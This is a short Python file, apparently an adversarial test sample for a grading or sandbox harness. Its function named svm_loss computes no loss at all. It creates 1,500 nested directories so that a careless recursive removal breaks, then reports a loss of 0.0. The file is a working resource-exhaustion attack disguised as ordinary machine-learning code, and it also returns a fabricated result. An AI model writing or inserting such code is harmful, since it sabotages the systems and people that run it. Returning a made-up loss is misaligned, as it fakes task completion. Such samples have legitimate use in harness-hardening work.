"""Attack: Folders nested so deep that a careless removal recurses too far."""

import os
import numpy as np


def svm_loss(W, X, y, reg=0.0):
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    return 0.0, W


def add_bias(X):
    return np.hstack([X, np.ones((len(X), 1), X.dtype)])
